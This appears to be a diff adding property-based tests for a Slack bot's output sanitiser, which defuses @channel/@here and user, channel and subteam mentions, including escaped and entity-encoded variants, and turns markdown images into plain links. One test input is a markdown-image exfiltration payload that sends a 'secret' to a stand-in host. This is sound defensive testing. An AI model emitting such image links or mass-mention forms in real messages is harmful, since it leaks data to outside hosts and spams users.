@@ -1,0 +1,99 @@
+"""The dialect: what Slack could act on is made harmless, everything else passes as it is."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from bots.sandbox.slack.mentions import in_text
+from bots.slack.dialect import DIALECT, JOINER, MAX_MARKDOWN, literal
+from core.render import Renderer
+
+FORMS = (
+    "<!channel>", "<!here>", "<!everyone>", "<!here|@here>", "<@U123>", "<@W9ab|bob>", "<#C123>", "<#C123|general>",
+    "<!subteam^S123>", "<!subteam^S1|team>", "<!date^1^{date}|now>", "<\\!channel>", "<\\@U1>", "&lt;!channel&gt;",
+    "&#60;@U1>", "&#x3C;!here>", "<!group>",
+)  # fmt: skip
+HARMLESS = (
+    "<!DOCTYPE html>", "<!-- comment -->", "a < b && c > d", "&amp; &lt; &gt;", "vec![1, 2]", "#![allow(dead_code)]",
+    "std::vector<int>", "<https://example.com>", "<b>bold</b>", "#include <stdio.h>", "a@b.example", "@here", "!important",
+    "[link](https://example.com/?a=1&b=2)", "x <- y", 'println!("{}", 1)', "| a | b |\n|---|---|\n| 1 | 2 |",
+)  # fmt: skip
+PIECES = st.lists(
+    st.sampled_from([*FORMS, *HARMLESS, " ", "\n", "```\n", "\\", "<", "&lt;", "!", "🎉", "![a](b)"])
+)
+
+
+@pytest.mark.parametrize("form", FORMS)
+@pytest.mark.parametrize("frame", ["{}", "`{}`", "```\n{}\n```", "**{}**", "\\{}"])
+def test_every_special_form_is_broken_up_everywhere(form: str, frame: str) -> None:
+    shown = DIALECT.show(frame.format(form))
+    assert shown != frame.format(form)
+    assert shown.replace(JOINER, "") == frame.format(form)
+    for read in (
+        shown,
+        shown.replace("\\", ""),
+        shown.replace("&lt;", "<").replace("&#60;", "<").replace("&#x3C;", "<"),
+    ):
+        assert in_text(read) == ()
+        assert not re.search(r"<[!@#](?:channel|here|U|C|S)", read)
+
+
+@pytest.mark.parametrize("text", HARMLESS)
+def test_everything_else_passes_untouched(text: str) -> None:
+    assert DIALECT.show(text) == text
+
+
+@pytest.mark.parametrize(
+    "image", ["![alt](https://evil.example/?q=secret)", "![](http://x)", "![a [b] c](u)", "![a][ref]"]
+)
+def test_images_become_links(image: str) -> None:
+    assert DIALECT.show(f"See {image}.") == f"See !{JOINER}{image[1:]}."
+
+
+@given(PIECES)
+@settings(max_examples=300, deadline=None, derandomize=True)
+def test_it_only_inserts_and_nothing_pings(pieces: list[str]) -> None:
+    text = "".join(pieces)
+    shown = DIALECT.show(text)
+    assert shown.replace(JOINER, "") == text
+    assert in_text(shown) == ()
+    assert DIALECT.show(shown) == shown
+    assert not shown.startswith(JOINER)
+    assert not shown.endswith(JOINER)
+
+
+@given(st.text())
+@settings(max_examples=300, deadline=None, derandomize=True)
+def test_the_size_covers_characters_utf16_units_and_entities(text: str) -> None:
+    escaped = text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
+    assert DIALECT.size(text) == len(escaped.encode("utf-16-le", "surrogatepass")) // 2
+
+
+def test_a_full_page_with_its_marker_stays_within_slacks_limit() -> None:
+    renderer = Renderer(DIALECT)
+    renderer.push("<!channel> 🎉 & more. " * 4_000)
+    pages = renderer.pages(live=False, marker="Stopped by alice.")
+    assert len(pages) > 2
+    assert all(len(page.text) <= DIALECT.page < MAX_MARKDOWN for page in pages)
+
+
+def test_a_marker_is_small_print_and_takes_names_literally() -> None:
+    assert DIALECT.marker("Stopped by alice.") == "_Stopped by alice._"
+    marker = DIALECT.marker("Stopped by *x* <!channel>\n![i](u) `c`.")
+    assert "\n" not in marker
+    assert in_text(marker) == ()
+    assert "\\*x\\*" in marker
+
+
+@given(st.text(max_size=40))
+@settings(max_examples=200, deadline=None, derandomize=True)
+def test_a_literal_shows_its_characters_and_nothing_else(text: str) -> None:
+    shown = literal(text)
+    assert in_text(shown) == ()
+    assert "\n" not in shown
+    unescaped = re.sub(r"\\([\\`*_~\[\]()<>#|!&])", r"\1", shown).replace(JOINER, "")
+    assert unescaped == " ".join(text.split()).replace(JOINER, "")
